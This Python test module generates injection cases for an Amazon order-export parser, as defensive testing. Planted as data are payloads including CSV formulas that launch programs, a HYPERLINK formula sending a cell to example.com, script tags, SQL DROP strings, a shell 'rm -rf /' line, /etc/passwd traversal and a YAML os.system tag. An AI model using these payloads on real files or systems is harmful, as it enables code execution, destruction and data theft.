"""Injection: values, headers and names that other programs would take for commands."""

from . import clean
from .case import add, kind

BAD = 3
VALUES = {
    "formula_sum": ("a formula", "=1+1"),
    "formula_command": ("a formula that starts a program", "=cmd|' /C calc'!A0"),
    "formula_plus": ("a formula with a plus sign", "+1+2"),
    "formula_minus": ("a formula with a minus sign", "-2+3+cmd|' /C calc'!A0"),
    "formula_at": ("a formula of an old spreadsheet", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "formula_link": ("a formula that sends data away", '=HYPERLINK("http://example.com?"&A1,"click")'),
    "script_tag": ("a script", "<script>alert(1)</script>"),
    "script_image": ("a picture that runs a script", '<img src=x onerror="alert(1)">'),
    "script_closes_first": ("closes a script before its own", "</script><script>alert(1)//"),
    "template_braces": ("a template", "{{7*7}} ${7*7} #{7*7} {0} %s %(x)s"),
    "sql_drop": ("SQL", "'; DROP TABLE order_lines; --"),
    "sql_union": ("SQL", "x' UNION SELECT * FROM loads --"),
    "sql_dollar": ("a parameter's name", "$file_id $id ? :id"),
    "sql_braces": ("braces", "{key} {} {0} {1!r}"),
    "shell": ("commands of a shell", "$(touch /tmp/escaped) `id` && rm -rf /"),
    "path": ("a path", "../../../etc/passwd"),
    "url": ("an address", "javascript:alert(1)"),
    "terminal_escape": ("terminal commands", "red \x1b[31m clear \x1b[2J"),
    "right_to_left": ("a mark that turns the text around", "mug \u202egnp.exe"),
    "log_lines": ("a forged line of a log", "mug%0aERROR all is lost"),
    "regular_expression": ("a pattern that takes ages", "(a+)+$" + "a" * 60 + "!"),
    "like_a_footer": ("a footer of another export", "12 record(s) downloaded"),
    "like_a_header": ("a header's name", "amazon-order-id"),
    "yaml": ("a command of YAML", "!!python/object/apply:os.system ['id']"),
    "null_byte_text": ("the text of a NUL", "mug\\u0000\\x00%00"),
}  # fmt: skip


def _value(name, about, text):
    """The text stands in a title and in a SKU; both are data."""

    def make(rng):
        export = clean.orders(rng)
        for index, header, column in ((BAD, "product-name", "product_name"), (BAD + 2, "sku", "sku")):
            export.rows[index][header] = export.truth[index][column] = text
        return export.case(maybe=[BAD, BAD + 2] if "\x1b" in text or text[0] == "=" else [])

    add("injection", name, "amazon_all_orders", f"{about} in a title and a SKU", make)


for _name, (_about, _text) in VALUES.items():
    _value(_name, _about, _text)

HEADERS = {
    "header_sql": ("SQL", 'x"; DROP TABLE loads; --'),
    "header_script": ("a script", "<script>alert(1)</script>"),
    "header_terminal": ("terminal commands", "note\x1b[2J\x1b]0;title\x07"),
    "header_braces": ("braces of templates", "{0} {{7*7}} %s"),
    "header_dollar": ("a parameter's name", "$file_id"),
    "header_internal": ("a name that the reader uses itself", "_file"),
    "header_internal_line": ("a name that the reader uses itself", "line"),
    "header_internal_cell": ("a name that the reader uses itself", "c1"),
    "header_very_long": ("10,000 letters", "n" * 10_000),
    "header_formula": ("a formula", "=1+1"),
}  # fmt: skip


def _header(name, about, text):
    def make(rng):
        export = clean.orders(rng)
        export.headers = [*export.headers[:7], text, *export.headers[7:]]
        for row in export.rows:
            row[text] = "x"
        return export.case()

    add("injection", name, "amazon_all_orders", f"a column of the seller's own with {about} as its name", make)


for _name, (_about, _text) in HEADERS.items():
    _header(_name, _about, _text)


@kind("injection")
def personal_values_in_a_bad_cell(rng):
    """A buyer's e-mail stands where the price should be: it must not be told."""
    export = clean.orders(rng)
    export.rows[BAD]["item-price"] = "quendolin@zanary.example"
    export.rows[BAD + 2]["quantity"] = "555-0177-31"
    return export.case(bad=[BAD, BAD + 2])


@kind("injection", "amazon_order_report")
def personal_values_shifted(rng):
    """A tab in a name moves address fields into columns that are kept; the width is right again."""
    export = clean.report(rng)
    lines = export.lines()
    cells = lines[BAD + 1].split("\t")
    cells.insert(5, "Quendolin")
    del cells[-1]
    lines[BAD + 1] = "\t".join(cells)
    return export.case("\r\n".join(lines) + "\r\n", bad=[BAD])


@kind("injection", "amazon_order_report")
def personal_values_shifted_left(rng):
    """The e-mail was deleted with its cell: names move left, a product name takes the place of a SKU."""
    export = clean.report(rng)
    lines = export.lines()
    cells = lines[BAD + 1].split("\t")
    del cells[4]
    lines[BAD + 1] = "\t".join([*cells, ""])
    return export.case("\r\n".join(lines) + "\r\n", bad=[BAD])


@kind("injection", "amazon_order_report")
def personal_values_in_a_broken_gzip(rng):
    """A packed report with a flipped bit: an error text must not show what was unpacked."""
    import gzip

    data = bytearray(gzip.compress(clean.report(rng).content(), 1))
    data[len(data) // 2] ^= 0x20
    return clean.report(rng).case(bytes(data), name="report.txt.gz", lost=range(10), right="refused")


@kind("injection")
def enormous_line(rng):
    """A line of 40 MB without an end, as a broken program writes it."""
    export = clean.orders(rng)
    return export.case(export.content() + b"x" * (40 << 20), junk=frozenset([14]), right="either")


@kind("injection")
def enormous_header(rng):
    """A first line of 5 MB without a tab."""
    export = clean.orders(rng)
    return export.case(b"x" * (5 << 20) + b"\n" + export.content(), right="either", at=range(3, 15))


@kind("injection")
def million_of_tabs(rng):
    """One line of a million tabs."""
    export = clean.orders(rng)
    return export.case(export.content() + b"\t" * 1_000_000 + b"\n", junk=frozenset([14]))


@kind("injection")
def million_of_quotes(rng):
    """One title of a hundred thousand quotation marks."""
    export = clean.orders(rng)
    export.rows[BAD]["product-name"] = export.truth[BAD]["product_name"] = '"' * 100_001
    return export.case(maybe=[BAD])


@kind("injection")
def million_of_line_ends(rng):
    """A million blank lines between two records."""
    export = clean.orders(rng)
    lines = export.lines()
    text = "\n".join(lines[:7]) + "\n" * 1_000_001 + "\n".join(lines[7:]) + "\n"
    return export.case(text, at=[index + 2 + 1_000_000 * (index > 5) for index in range(12)])
